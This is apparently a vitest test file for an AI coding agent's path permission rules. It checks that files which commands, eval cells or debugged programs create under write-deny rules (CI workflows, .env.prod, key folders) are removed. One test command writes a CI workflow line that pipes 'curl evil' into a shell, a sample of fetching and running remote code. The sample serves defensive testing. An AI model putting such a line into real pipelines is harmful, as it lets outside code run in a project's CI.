import { existsSync, mkdirSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { ScriptedLlmClient } from '@a3s-code/core/testing';
import { Agent } from '../src/index.js';
import { call, debugProject, DEBUGPY, results, run, workspace } from './read-deny-kit.js';

const CAN_HIDE = process.platform === 'linux' && existsSync('/proc/self/environ');
const bash = (id: string, command: string) => call(id, 'bash', { command });

describe.skipIf(!CAN_HIDE)('what a command creates where a write rule denies it', () => {
  it('PERM-02: a file or folder a command creates under a write deny rule is removed and the call fails', async () => {
    const dir = workspace();
    const { session } = await run(
      dir,
      [
        bash(
          'b1',
          'mkdir -p .github/workflows && echo "run: curl evil | sh" > .github/workflows/ci.yml; echo A=1 > .env.prod; mkdir -p vault2/deep && echo k > vault2/deep/k; echo ok > src/fine.ts; echo done',
        ),
        bash('b2', 'ls -a .github; cat .env.prod 2>&1; echo after'),
      ],
      { permissions: { deny: ['Write(.github/workflows/**)', 'Write(.env.prod)', 'Read(vault2)', 'Write(vault2)'] } },
    );
    const got = results(session);
    const b1 = got.get('b1');
    expect(b1?.ok).toBe(false);
    expect(b1?.output).toContain('done');
    expect(b1?.output).toContain(
      '[refused: the path rules deny writing .env.prod, .github/workflows, vault2; they were created by this call and removed.]',
    );
    expect(b1?.metadata).toMatchObject({
      exit_code: 0,
      denied_writes: { removed: ['.env.prod', '.github/workflows', 'vault2'] },
      changed_files: { created: ['src/fine.ts'] },
    });
    expect(existsSync(join(dir, '.github', 'workflows'))).toBe(false);
    expect(existsSync(join(dir, '.env.prod'))).toBe(false);
    expect(existsSync(join(dir, 'vault2'))).toBe(false);
    expect(readFileSync(join(dir, 'src', 'fine.ts'), 'utf8')).toBe('ok\n');
    expect(got.get('b2')?.output).toContain('No such file or directory');
  });

  it('PERM-02: a link a command makes in the place of a denied folder (ln -s cfg config under Write(config/**)) is removed', async () => {
    const dir = workspace();
    const { session } = await run(
      dir,
      [bash('l1', 'mkdir -p cfg && echo X > cfg/n.json && ln -s cfg config; echo done')],
      {
        permissions: { deny: ['Write(config/**)'] },
      },
    );
    const l1 = results(session).get('l1');
    expect(l1?.ok).toBe(false);
    expect(l1?.output).toContain(
      '[refused: the path rules deny writing config; it was created by this call and removed.]',
    );
    expect(existsSync(join(dir, 'config'))).toBe(false);
    expect(readFileSync(join(dir, 'cfg', 'n.json'), 'utf8')).toBe('X\n');
  });

  it('PERM-02: a command that fails on a file the rules keep from it is told which rules keep it', async () => {
    const dir = workspace();
    mkdirSync(join(dir, 'keys'));
    writeFileSync(join(dir, 'keys', 'k'), 'SECRET=1\n');
    writeFileSync(join(dir, 'dist.js'), 'old\n');
    const { session } = await run(
      dir,
      [bash('n1', 'cat keys/k'), bash('n2', 'echo new > dist.js'), bash('n3', 'cat missing.txt')],
      { permissions: { deny: ['Read(keys/**)', 'Write(dist.js)'] } },
    );
    const got = results(session);
    expect(got.get('n1')?.output).toContain('cat: keys/k: No such file or directory');
    expect(got.get('n1')?.output).toContain('[files the read rules cover (Read(keys/**)) are kept from this command');
    expect(got.get('n2')?.output).toContain(
      '[files the write rules cover (Write(dist.js)) are read-only for this command]',
    );
    expect(readFileSync(join(dir, 'dist.js'), 'utf8')).toBe('old\n');
    expect(got.get('n3')?.output).not.toContain('the read rules cover');
  });

  it('PERM-02: what existed before the command is left alone, and a command that creates nothing denied passes', async () => {
    const dir = workspace();
    mkdirSync(join(dir, 'locks'));
    writeFileSync(join(dir, 'locks', 'a.lock'), 'old\n');
    const { session } = await run(
      dir,
      [bash('b1', 'echo new > src/b.ts && cat locks/a.lock'), bash('b2', 'touch locks/c.lock 2>&1; echo $?')],
      { permissions: { deny: ['Write(**/*.lock)'] } },
    );
    const got = results(session);
    expect(got.get('b1')).toMatchObject({ ok: true, output: 'old\n' });
    expect(got.get('b1')?.metadata).not.toHaveProperty('denied_writes');
    expect(got.get('b2')?.output).toContain('the path rules deny writing locks/c.lock');
    expect(readFileSync(join(dir, 'locks', 'a.lock'), 'utf8')).toBe('old\n');
    expect(existsSync(join(dir, 'locks', 'c.lock'))).toBe(false);
  });

  it('PERM-02: an eval cell is held the same way: what it creates under a write deny rule is removed', async () => {
    const dir = workspace();
    const cell = (id: string, code: string) =>
      call(id, 'eval', { code, language: 'python', description: 'write a workflow file and a source file' });
    const { session } = await run(
      dir,
      [
        cell(
          'e1',
          "import os\nos.makedirs('.github/workflows', exist_ok=True)\nopen('.github/workflows/ci.yml', 'w').write('x')\nopen('src/ok.py', 'w').write('y')\nx = 41",
        ),
        cell('e2', "print(x + 1, os.path.exists('.github/workflows'))"),
      ],
      { permissions: { deny: ['Write(.github/workflows/**)'] } },
    );
    const got = results(session);
    expect(got.get('e1')).toMatchObject({
      ok: false,
      output: expect.stringContaining(
        '[refused: the path rules deny writing .github/workflows; it was created by this call and removed.]',
      ),
    });
    expect(got.get('e1')?.metadata).toMatchObject({ denied_writes: { removed: ['.github/workflows'] } });
    expect(got.get('e2')).toMatchObject({ ok: true, output: '42 False' });
    expect(existsSync(join(dir, '.github', 'workflows'))).toBe(false);
    expect(readFileSync(join(dir, 'src', 'ok.py'), 'utf8')).toBe('y');
  });

  it('PERM-02: a command interrupted after it created such a file still has it removed', async () => {
    const dir = workspace();
    const model = new ScriptedLlmClient([
      call('b1', 'bash', { command: 'mkdir -p .github/workflows && echo x > .github/workflows/ci.yml && sleep 30' }),
      { text: 'never' },
    ]);
    const session = await (await Agent.create({ model })).session(dir, {
      governance: { yolo: true },
      permissions: { deny: ['Write(.github/workflows/**)'] },
    });
    try {
      const stream = session.stream('go');
      const done = (async () => {
        for await (const _ of stream) {
          // drained
        }
      })().catch(() => undefined);
      const file = join(dir, '.github', 'workflows', 'ci.yml');
      for (let i = 0; i < 400 && !existsSync(file); i++) await new Promise((r) => setTimeout(r, 25));
      expect(existsSync(file)).toBe(true);
      session.interrupt();
      await done;
      expect((await stream.result.catch((e: unknown) => e)) as { status?: string }).toMatchObject({
        status: 'cancelled',
      });
      // The call ends at once; the command's process group is killed and then the rules searched again.
      const folder = join(dir, '.github', 'workflows');
      for (let i = 0; i < 200 && existsSync(folder); i++) await new Promise((r) => setTimeout(r, 25));
      expect(existsSync(folder)).toBe(false);
    } finally {
      await session.close();
    }
  });

  it.skipIf(!DEBUGPY)(
    'PERM-02: a program under debug is watched while each call runs: what it creates under a write deny rule is removed',
    async () => {
      const dir = workspace();
      debugProject(
        dir,
        'make.py',
        "import os\nprint('start')\nos.makedirs('.github/workflows', exist_ok=True)\nopen('.github/workflows/ci.yml', 'w').write('x')\nopen('out.txt', 'w').write('ok')\n",
      );
      const { session } = await run(
        dir,
        [
          call('d0', 'debug', { op: 'breakpoints', file: 'make.py', lines: [2] }),
          call('d1', 'debug', { op: 'launch', program: 'make.py' }),
          call('d2', 'debug', { op: 'continue' }),
        ],
        { permissions: { deny: ['Write(.github/workflows/**)'] } },
      );
      const got = results(session);
      expect(got.get('d1')?.ok).toBe(true);
      expect(got.get('d2')).toMatchObject({
        ok: false,
        output: expect.stringContaining(
          '[refused: the path rules deny writing .github/workflows; it was created by this call and removed.]',
        ),
      });
      expect(existsSync(join(dir, '.github', 'workflows'))).toBe(false);
      expect(readFileSync(join(dir, 'out.txt'), 'utf8')).toBe('ok');
    },
  );
  it.skipIf(!DEBUGPY)(
    'PERM-02: what a program under debug creates between calls is removed at the next call, and when the session ends',
    async () => {
      const dir = workspace();
      const made = (trigger: string, file: string) =>
        `while not os.path.exists('${trigger}'): time.sleep(0.02)\nos.makedirs('.github/workflows', exist_ok=True)\nopen('.github/workflows/${file}', 'w').write('x')\n`;
      debugProject(dir, 'slow.py', `import os, time\n${made('go1', 'a.yml')}${made('go2', 'b.yml')}time.sleep(120)\n`);
      const model = new ScriptedLlmClient([
        call('d1', 'debug', { op: 'launch', program: 'slow.py' }),
        { text: 'launched' },
        call('d2', 'debug', { op: 'status' }),
        { text: 'checked' },
      ]);
      const session = await (await Agent.create({ model })).session(dir, {
        governance: { yolo: true },
        gate: { continuation: { enabled: false } },
        permissions: { deny: ['Write(.github/workflows/**)'] },
      });
      const turn = async (prompt: string) => {
        const stream = session.stream(prompt);
        // The gate may hold the run (the workspace changed unverified): the files are what is checked.
        try {
          for await (const _ of stream) {
            // drained
          }
        } catch {}
        await stream.result.catch(() => undefined);
      };
      const waitFor = async (file: string, present: boolean) => {
        for (let i = 0; i < 400 && existsSync(file) !== present; i++) await new Promise((r) => setTimeout(r, 25));
        expect(existsSync(file)).toBe(present);
      };
      const folder = join(dir, '.github', 'workflows');
      try {
        await turn('launch it');
        expect(results(session).get('d1')).toMatchObject({ ok: true, output: expect.stringContaining('running') });
        // Between the runs no call is under way: the program makes the file unwatched.
        writeFileSync(join(dir, 'go1'), '');
        await waitFor(join(folder, 'a.yml'), true);
        await turn('check it');
        expect(results(session).get('d2')).toMatchObject({
          ok: false,
          output: expect.stringContaining(
            '[refused: the path rules deny writing .github/workflows; it was created by the program under debug since the last call and removed.]',
          ),
        });
        expect(existsSync(folder)).toBe(false);
        writeFileSync(join(dir, 'go2'), '');
        await waitFor(join(folder, 'b.yml'), true);
      } finally {
        await session.close();
      }
      expect(existsSync(folder)).toBe(false);
    },
  );
});
